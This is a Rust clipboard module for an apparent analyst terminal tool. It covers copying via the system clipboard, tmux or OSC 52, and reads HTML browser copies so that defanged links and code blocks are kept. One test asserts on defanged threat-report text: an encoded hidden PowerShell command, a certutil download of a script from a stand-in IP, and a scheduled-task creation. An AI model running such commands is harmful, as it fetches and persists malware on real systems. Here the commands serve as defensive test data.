//! The system clipboard through arboard (X11): reading prefers its `text/html` (a browser copy),
//! read like an HTML page so link targets and code blocks survive. Copying goes there too; inside
//! tmux, to tmux's paste buffer (`tmux load-buffer -w`, which tmux forwards to the outer terminal
//! when its `set-clipboard` allows: under tmux's default an OSC 52 written by the app is
//! dropped); otherwise OSC 52 (the terminal's own clipboard, which reaches the analyst's machine
//! over SSH). Only the first is confirmed; the messages say so rather than claim a copy that may
//! not have happened.

use std::io::Write;

use crossterm::clipboard::CopyToClipboard;
use crossterm::execute;

pub struct Clipboard {
    system: Option<arboard::Clipboard>,
    why_not: String,
}

impl Default for Clipboard {
    fn default() -> Self {
        Self::new()
    }
}

impl Clipboard {
    pub fn new() -> Clipboard {
        let has_display = std::env::var_os("DISPLAY").is_some_and(|d| !d.is_empty())
            || std::env::var_os("WAYLAND_DISPLAY").is_some_and(|d| !d.is_empty());
        if !has_display {
            return Clipboard {
                system: None,
                why_not: "no display server (DISPLAY is not set)".into(),
            };
        }
        match arboard::Clipboard::new() {
            Ok(c) => Clipboard {
                system: Some(c),
                why_not: String::new(),
            },
            Err(e) => Clipboard {
                system: None,
                why_not: format!("no system clipboard ({e})"),
            },
        }
    }

    /// Copies `text`; returns where it went, honestly ("the system clipboard", or a route whose
    /// delivery cannot be confirmed, with what to do).
    pub fn copy(&mut self, text: &str, out: &mut impl Write) -> Result<String, String> {
        if let Some(c) = &mut self.system
            && c.set_text(text.to_owned()).is_ok()
        {
            return Ok("the system clipboard".into());
        }
        if std::env::var_os("TMUX").is_some_and(|v| !v.is_empty()) && tmux_load_buffer(text) {
            return Ok(
                "tmux's paste buffer (prefix ] pastes it; it reaches your own clipboard \
                       only if tmux's set-clipboard option allows)"
                    .into(),
            );
        }
        execute!(out, CopyToClipboard::to_clipboard_from(text.as_bytes()))
            .map_err(|e| format!("cannot copy: {e}"))?;
        Ok(osc52_note(text.len()))
    }

    /// Reads the system clipboard: the text of its HTML when it offers some (see
    /// [`text_of_copy`]), else its plain text.
    pub fn read(&mut self) -> Result<String, String> {
        match &mut self.system {
            Some(c) => {
                // most clipboards offer no text/html: that is no error, the plain text is used
                let html = c.get().html().ok();
                let plain = c.get_text();
                match text_of_copy(html.as_deref(), plain.as_deref().ok()) {
                    Some(text) => Ok(text),
                    None => plain.map_err(|e| format!("cannot read the clipboard: {e}")),
                }
            }
            None => Err(format!(
                "cannot read the clipboard: {}; paste with your terminal instead (e.g. ctrl-shift-v)",
                self.why_not
            )),
        }
    }
}

/// The text to paste from a clipboard that offers `html` (its `text/html`, from a browser copy)
/// beside `plain` (its `text/plain`): the HTML read as the document reader reads a page, which
/// keeps what the rendered text loses (link targets, where defanged URLs hide; `<pre>` blocks
/// verbatim). `None`: use the plain text (no HTML, no text in it, or the reader kept less than
/// half of the plain text's words, as when it drops a copied page's navigation as furniture).
pub fn text_of_copy(html: Option<&str>, plain: Option<&str>) -> Option<String> {
    let html = html.filter(|h| !h.trim().is_empty())?;
    let extracted = mitremap_docs::extract(
        html.as_bytes(),
        mitremap_docs::Format::Html,
        &mitremap_docs::Options::default(),
    )
    .ok()?;
    let text = extracted.text;
    let words = |s: &str| s.split_whitespace().count();
    let kept_enough = plain.is_none_or(|p| words(&text) * 2 >= words(p));
    (words(&text) > 0 && kept_enough).then_some(text)
}

/// Largest OSC 52 payload (base64) many terminals accept; bigger ones are dropped silently.
pub const OSC52_LIMIT: usize = 100_000;

/// What to tell the analyst after an OSC 52 copy of `len` bytes.
pub fn osc52_note(len: usize) -> String {
    let encoded = len.div_ceil(3) * 4;
    if encoded > OSC52_LIMIT {
        format!(
            "the terminal (OSC 52) — {} KB encoded, over the ~{} KB many terminals accept: it was \
             probably dropped; export instead",
            encoded / 1000,
            OSC52_LIMIT / 1000
        )
    } else {
        "the terminal (OSC 52; not confirmed: not every terminal accepts it)".into()
    }
}

/// `tmux load-buffer -w -` (tmux >= 3.2 also sets the outer clipboard), else without `-w`.
/// Output goes nowhere: nothing may reach the screen behind the UI.
fn tmux_load_buffer(text: &str) -> bool {
    use std::process::{Command, Stdio};
    for args in [&["load-buffer", "-w", "-"][..], &["load-buffer", "-"][..]] {
        let child = Command::new("tmux")
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        let Ok(mut child) = child else { return false };
        let wrote = child
            .stdin
            .take()
            .is_some_and(|mut stdin| stdin.write_all(text.as_bytes()).is_ok());
        if wrote && child.wait().is_ok_and(|s| s.success()) {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fixture(name: &str) -> String {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/clipboard")
            .join(name);
        std::fs::read_to_string(path).unwrap()
    }

    /// A browser copy: the plain text has lost the link's (defanged) target; the HTML has it, and
    /// its code block comes out line by line as it was.
    #[test]
    fn a_browser_copy_is_read_from_its_html() {
        let (html, plain) = (fixture("browser-copy.html"), fixture("browser-copy.txt"));
        let staging = "hxxps://cdn.glass-harbor-update[.]net/s2/stage.bin";
        assert!(!plain.contains(staging));
        let text = text_of_copy(Some(&html), Some(&plain)).expect("the HTML is used");
        assert!(text.contains(staging), "{text}");
        assert!(
            text.contains(
                "powershell.exe -nop -w hidden -enc SQBFAFgA\n  certutil -urlcache -split -f \
                 hxxp://198.51.100[.]23/a.ps1 %TEMP%\\a.ps1\nschtasks /create"
            ),
            "{text}"
        );
        assert!(text.contains("update.glass-harbor[.]net"));
        assert!(!text.contains("rgb("), "styles are not text: {text}");
        assert!(!text.contains("<meta"), "{text}");
    }

    #[test]
    fn plain_text_is_used_without_html_or_when_the_html_says_less() {
        let plain = fixture("browser-copy.txt");
        assert_eq!(text_of_copy(None, Some(&plain)), None);
        assert_eq!(text_of_copy(Some("  "), Some(&plain)), None);
        assert_eq!(text_of_copy(Some("<p></p>"), None), None);
        // a copied page whose <main> holds a fraction of the selection
        let page = "<html><body><nav>Home Blog About</nav><main><p>One line.</p></main>\
                    <div>and everything else the analyst selected</div></body></html>";
        assert_eq!(
            text_of_copy(Some(page), Some(&plain)),
            None,
            "less than half the words: the plain text wins"
        );
        assert!(text_of_copy(Some(page), None).is_some());
    }

    #[test]
    fn osc52_copies_never_claim_delivery_and_warn_when_too_big() {
        assert!(osc52_note(10).contains("not confirmed"));
        let big = osc52_note(200_000);
        assert!(big.contains("over the ~100 KB"), "{big}");
    }
}
